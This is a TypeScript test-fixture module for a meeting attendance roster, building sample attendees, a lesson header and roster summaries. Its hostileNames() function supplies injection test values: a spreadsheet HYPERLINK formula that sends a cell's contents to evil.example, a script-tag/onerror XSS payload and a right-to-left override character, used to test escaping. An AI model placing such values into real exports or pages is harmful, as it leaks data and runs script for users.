import { noReport } from '../../shared/wire/report.ts'
import type { GatheringHead, PersonRow, RosterSnapshot, RosterSummary } from '../../shared/wire/index.ts'

/** 18:04 in Yekaterinburg, when the lesson of these tests began. */
export const startMs = Date.UTC(2026, 10, 23, 13, 4)
const minute = 60_000

export const at = (minutes: number): string => new Date(startMs + minutes * minute).toISOString()

/** A person as the server tells of them; only what matters to a test need be given. */
export function person(id: string, given: Partial<PersonRow> = {}): PersonRow {
  return {
    id,
    name: `Person ${id}`,
    names: [given.name ?? `Person ${id}`],
    email: `${id}@example.org`,
    emailHidden: false,
    role: 'attendee',
    state: 'here',
    connectionsNow: 1,
    segments: 1,
    firstJoin: at(0),
    firstJoinKnown: true,
    lastLeave: null,
    presentSeconds: 47 * 60,
    waitingSeconds: 0,
    renamedAt: null,
    stays: [{ place: 'main', from: at(0), fromSeen: false, to: null }],
    seenLiveOnly: false,
    registration: null,
    onListOnly: false,
    share: null,
    meetsMinimum: null,
    labels: [],
    host: null,
    statuses: ['present'],
    identity: {
      rule: 'zoom_user_id',
      confidence: 'certain',
      evidence: [{ code: 'same_zoom_user', value: null }],
    },
    ...given,
  }
}

export function head(given: Partial<GatheringHead> = {}): GatheringHead {
  return {
    id: 'g1',
    topic: 'Project management, lesson 4',
    number: '84668902623',
    kind: 'meeting',
    capture: 'full',
    startedAt: at(0),
    endedAt: null,
    witnesses: ['webhook', 'panel'],
    report: noReport,
    base: null,
    minPercent: 75,
    zone: 'Asia/Yekaterinburg',
    ...given,
  }
}

export function summarise(people: readonly PersonRow[]): RosterSummary {
  const count = (fits: (row: PersonRow) => boolean) => people.filter(fits).length
  const came = people.filter((row) => row.stays.some((stay) => stay.place !== 'waiting'))
  return {
    here: count((row) => row.state === 'here'),
    came: came.length,
    left: came.filter((row) => row.state === 'left').length,
    waiting: count((row) => row.state === 'waiting'),
    connections: people.reduce((sum, row) => sum + row.connectionsNow, 0),
    certain: count((row) => row.identity.confidence === 'certain'),
    likely: count((row) => row.identity.confidence === 'likely'),
    unidentified: count((row) => row.identity.confidence === 'unidentified'),
    conflicts: count((row) => row.identity.confidence === 'conflict'),
    minimum: null,
    expected: null,
  }
}

export function snapshot(people: PersonRow[], given: Partial<RosterSnapshot> = {}): RosterSnapshot {
  return { version: 1, at: at(47), gathering: head(), summary: summarise(people), people, ...given }
}

const nameless: PersonRow['identity'] = {
  rule: 'single_row',
  confidence: 'unidentified',
  evidence: [{ code: 'generic_name', value: 'iPhone' }],
}

/** A small lesson with one of everything the list has to show. */
export function lesson(): PersonRow[] {
  return [
    person('elena', { name: 'Elena K.', role: 'host', email: 'e.k@school.example' }),
    person('olga', {
      name: 'Ольга П.',
      names: ['iPhone', 'Ольга П.'],
      firstJoin: at(3),
      email: null,
      renamedAt: at(63),
      presentSeconds: 44 * 60,
      stays: [{ place: 'main', from: at(3), fromSeen: false, to: null }],
      identity: {
        rule: 'name',
        confidence: 'likely',
        evidence: [{ code: 'single_connection', value: null }],
      },
    }),
    person('denis', {
      name: 'Denis M.',
      email: null,
      connectionsNow: 2,
      presentSeconds: 41 * 60,
      stays: [
        { place: 'main', from: at(0), fromSeen: false, to: at(22) },
        { place: 'main', from: at(23.5), fromSeen: false, to: null },
      ],
    }),
    person('anna', {
      name: 'Anna S.',
      email: 'anna.s@example.org',
      firstJoinKnown: false,
      presentSeconds: 35 * 60,
      stays: [{ place: 'main', from: at(12), fromSeen: true, to: null }],
      firstJoin: at(12),
    }),
    person('iphone1', { name: 'iPhone', email: null, presentSeconds: 31 * 60, identity: nameless }),
    person('iphone2', { name: 'iPhone', email: null, presentSeconds: 12 * 60, identity: nameless }),
    person('timur', {
      name: 'Timur V.',
      state: 'left',
      connectionsNow: 0,
      firstJoin: at(5),
      lastLeave: at(27),
      presentSeconds: 22 * 60,
      stays: [{ place: 'main', from: at(5), fromSeen: false, to: at(27) }],
    }),
    person('nina', {
      name: 'Nina B.',
      email: null,
      state: 'waiting',
      firstJoin: null,
      presentSeconds: 0,
      waitingSeconds: 180,
      stays: [{ place: 'waiting', from: at(44), fromSeen: false, to: null }],
    }),
    person('igor', {
      name: 'Igor W.',
      state: 'left',
      connectionsNow: 0,
      firstJoin: null,
      lastLeave: at(9),
      presentSeconds: 0,
      waitingSeconds: 240,
      stays: [{ place: 'waiting', from: at(5), fromSeen: false, to: at(9) }],
    }),
    person('julia', {
      name: 'Юлия К.',
      presentSeconds: 46 * 60,
      stays: [
        { place: 'main', from: at(1), fromSeen: false, to: at(29) },
        { place: 'breakout', from: at(29), fromSeen: false, to: null },
      ],
    }),
    person('cohost', { name: 'Константин Константинопольский-Задунайский', role: 'cohost' }),
  ]
}

/** Names that try to be something else. */
export function hostileNames(): PersonRow[] {
  return [
    '=HYPERLINK("http://evil.example/?"&A2;"name")',
    '+7 900 000-00-00',
    '-Мария-',
    '@cmd',
    'Tab\tand\nbreak',
    '</script><img src=x onerror=alert(1)>',
    '\u202eright to left',
    '',
  ].map((name, index) => person(`hostile${index}`, { name, names: [name] }))
}

export function crowd(size: number): PersonRow[] {
  return Array.from({ length: size }, (_, index) =>
    person(`p${index}`, {
      name: `${['Анна', 'Boris', 'Carla', 'Дмитрий', 'Eva'][index % 5] ?? ''} ${String(index).padStart(5, '0')}`,
    }),
  )
}
